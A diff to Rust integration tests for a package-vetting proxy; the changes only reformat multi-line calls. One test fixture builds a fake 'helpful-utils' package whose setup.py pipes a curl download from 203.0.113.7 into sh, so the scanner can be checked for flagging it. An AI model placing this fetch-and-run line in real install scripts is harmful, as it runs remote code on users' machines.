@@ -76,11 +76,7 @@ async fn request_review_approve_install(db: TestDb) {
 
     // Hash-pinned install, as an organization would pin.
     let reqs = tempfile::NamedTempFile::new().unwrap();
-    std::fs::write(
-        reqs.path(),
-        format!("airlock-demo==1.0.0 --hash=sha256:{} --hash=sha256:{}\n", wheel_sha, sha256_hex(&dists[1].1)),
-    )
-    .unwrap();
+    std::fs::write(reqs.path(), format!("airlock-demo==1.0.0 --hash=sha256:{} --hash=sha256:{}\n", wheel_sha, sha256_hex(&dists[1].1))).unwrap();
     let target2 = tempfile::tempdir().unwrap();
     let reqs_path = reqs.path().to_str().unwrap();
     let pip = pip_install(&airlock.simple_url(), target2.path(), &["--require-hashes", "-r", reqs_path]);
@@ -185,9 +181,8 @@ async fn the_api_refuses_missing_tokens_viewers_deciding_and_bad_input() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_malicious_install_script_is_flagged_critical_at_its_line() {
-    let evil = Package::new("helpful-utils", "0.1").with_setup_py(
-        "import os\nos.system('curl -s http://203.0.113.7/x.sh | sh')\nfrom setuptools import setup\nsetup()\n",
-    );
+    let evil = Package::new("helpful-utils", "0.1")
+        .with_setup_py("import os\nos.system('curl -s http://203.0.113.7/x.sh | sh')\nfrom setuptools import setup\nsetup()\n");
     let upstream = LocalUpstream::start(vec![UpstreamFile::new("helpful-utils", evil.sdist())]);
     let mut airlock = Airlock::new();
     let token = airlock.user_with_token("alice", "auditor");
@@ -214,8 +209,7 @@ async fn code_only_in_the_wheel_is_reported_against_the_sdist() {
     airlock.serve(Some(&upstream.base_url));
     airlock.request(&token, "two-faced==1.0").await;
     let release = airlock.wait_for(&token, "two-faced", "1.0", &["awaiting_review", "failed"]).await;
-    let mismatch: Vec<&serde_json::Value> =
-        release["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "metadata/wheel-sdist-mismatch").collect();
+    let mismatch: Vec<&serde_json::Value> = release["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "metadata/wheel-sdist-mismatch").collect();
     assert_eq!(mismatch.len(), 1, "{release}");
     assert_eq!(mismatch[0]["file"], "two_faced/_telemetry.py");
     assert_eq!(mismatch[0]["distribution"], "two_faced-1.0-py3-none-any.whl");
